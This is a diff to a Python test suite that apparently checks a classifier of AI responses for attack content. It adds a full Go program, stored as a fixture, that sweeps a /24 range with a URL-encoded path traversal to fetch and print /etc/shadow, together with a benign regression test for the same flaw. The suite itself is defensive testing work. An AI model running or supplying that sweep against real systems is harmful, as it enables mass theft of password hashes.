@@ -1040,3 +1040,49 @@ def test_a_udp_server_answering_each_sender_holds_no_piece() -> None:
 def test_a_loop_that_only_sends_still_is_part_of_a_flood() -> None:
     reading = read_response(UDP_SPRAY)
     assert reading.verdict.refused or reading.holds_part
+
+
+# A system file asked for through a climbing path from every host of a range: part of an
+# exploit, whichever appliance's flaw it uses. The same path sent to one's own test client,
+# checked to be refused, is a regression test.
+TRAVERSAL_SWEEP = """```go
+package main
+
+import (
+	"fmt"
+	"io"
+	"net/http"
+	"strconv"
+)
+
+func main() {
+	for i := 1; i <= 254; i++ {
+		url := "http://198.51.100." + strconv.Itoa(i) + ":8080/download?file=..%2f..%2f..%2f..%2fetc/shadow"
+		resp, err := http.Get(url)
+		if err != nil || resp.StatusCode != 200 {
+			continue
+		}
+		body, _ := io.ReadAll(resp.Body)
+		fmt.Printf("%d\\n%s\\n", i, body)
+	}
+}
+```"""
+
+TRAVERSAL_REGRESSION_TEST = """```python
+def test_download_refuses_paths_outside_the_upload_folder(client):
+    for path in ("../../../etc/passwd", "..%2f..%2f..%2fetc/passwd"):
+        response = client.get("/download", query_string={"file": path})
+        assert response.status_code == 404
+```"""
+
+
+def test_a_climbing_path_asked_of_a_swept_range_is_part_of_an_exploit() -> None:
+    reading = read_response(TRAVERSAL_SWEEP)
+    assert Capability.TRAVERSAL_PATH in reading.capabilities
+    assert reading.verdict.refused or reading.holds_part
+
+
+def test_a_climbing_path_in_ones_own_regression_test_holds_no_piece() -> None:
+    reading = read_response(TRAVERSAL_REGRESSION_TEST)
+    assert not reading.verdict.refused
+    assert not reading.holds_part, (reading.closest, reading.capabilities.hits.keys())
